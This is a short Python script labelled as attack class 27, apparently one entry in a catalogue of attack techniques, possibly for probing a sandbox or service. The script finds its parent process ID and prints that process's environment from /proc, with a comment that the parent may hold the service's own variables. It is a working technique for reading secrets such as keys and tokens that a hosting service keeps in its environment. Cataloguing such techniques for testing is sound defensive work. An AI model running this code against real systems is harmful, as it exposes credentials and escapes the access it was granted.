# attack-class: 27
# title: read the parent's /proc/<ppid>/environ
# why: the parent process may hold the service's own variables

import os

ppid = open("/proc/self/stat").read().split()[3]
print(open(f"/proc/{ppid}/environ", "rb").read().replace(b"\0", b"\n").decode())
